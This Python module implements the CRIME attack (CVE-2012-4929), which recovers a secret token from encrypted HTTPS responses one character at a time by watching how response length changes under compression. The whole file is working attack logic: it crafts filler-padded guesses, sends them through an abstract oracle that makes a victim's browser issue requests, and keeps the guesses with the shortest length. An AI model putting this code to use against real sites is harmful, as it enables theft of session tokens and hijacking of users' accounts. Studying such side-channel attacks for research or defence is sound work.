"""CRIME: an attacker who sees only the length of a response finds a secret in it, byte by byte.

Text that repeats a part of the secret is compressed better, so the right guess of the next
character makes the response shorter (CVE-2012-4929).
"""

import random
import string
from collections.abc import Callable

ALPHABET = string.ascii_letters + string.digits + "-_"
TOKEN_SIZE = 43
FILLER = "~" * 300
"""Text that is compressed to almost nothing, so that a short session is compressed at all."""

Length = Callable[[str], int]
"""Has a visitor's browser send this text to the site, and returns the length that was seen."""


def recover(length: Length, most: int = 12_000) -> str:
    """Return the longest text of the response that ``most`` requests find.

    It begins where the attacker's text does, behind a quote. If several characters are equally
    likely, each is followed.
    """
    longest, branches, left = "", [""], most
    while branches and len(longest) < TOKEN_SIZE and left > 0:
        known = branches.pop()
        longest = max(known, longest, key=len)
        candidates, requests = _next(length, known)
        left -= requests
        if len(candidates) <= 4:  # or else the text is not in the response
            branches += [known + guess for guess in candidates]
    return longest


def _next(length: Length, known: str, rounds: int = 4) -> tuple[list[str], int]:
    """Return the likeliest next characters, and the number of requests."""
    chance = random.Random(known)  # noqa: S311 - the attacker's choice, the same on every run
    candidates, total, requests = list(ALPHABET), dict.fromkeys(ALPHABET, 0), 0
    for extra in range(rounds):
        between = "".join(chance.choices(string.punctuation.replace('"', ""), k=extra))
        for guess in candidates:
            total[guess] += length(f"{known[-12:]}{guess}{between}{FILLER}")
        requests += len(candidates)
        least = min(map(total.__getitem__, candidates))
        candidates = [guess for guess in candidates if total[guess] == least]
        if len(candidates) == 1:
            break
    return candidates, requests
